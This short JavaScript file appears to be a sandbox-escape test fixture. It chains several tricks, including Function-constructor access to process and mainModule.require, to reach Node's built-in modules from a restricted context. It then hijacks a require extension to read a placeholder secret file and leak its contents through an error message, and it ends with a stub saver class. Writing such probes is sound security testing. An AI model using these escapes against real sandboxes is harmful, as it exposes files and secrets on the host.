// Tries: to read a file of the host as if it were a module
// @ts-nocheck
const node = (name) => {
  for (const way of [
    () => process.getBuiltinModule(name),
    () => globalThis.require(name),
    () => (() => {}).constructor("return process")().getBuiltinModule(name),
    () => console.log.constructor.constructor("return process")().mainModule.require(name),
  ])
    try { const found = way(); if (found) return found; } catch {}
  throw new Error("no modules of Node");
};
try {
  const { createRequire } = node("node:module");
  const require = createRequire("file:///");
  require.extensions[".txt"] = (module, file) => module._compile("throw new Error(" + JSON.stringify(node("node:fs").readFileSync(file, "utf8")) + ")", file);
  require("__SECRET_FILE__");
} catch (error) { console.log(error.message); }

export class TinySaver {
  async put() {}
  async putWrites() {}
  async getTuple() {}
  async *list() {}
  async deleteThread() {}
  onPut() {}
}
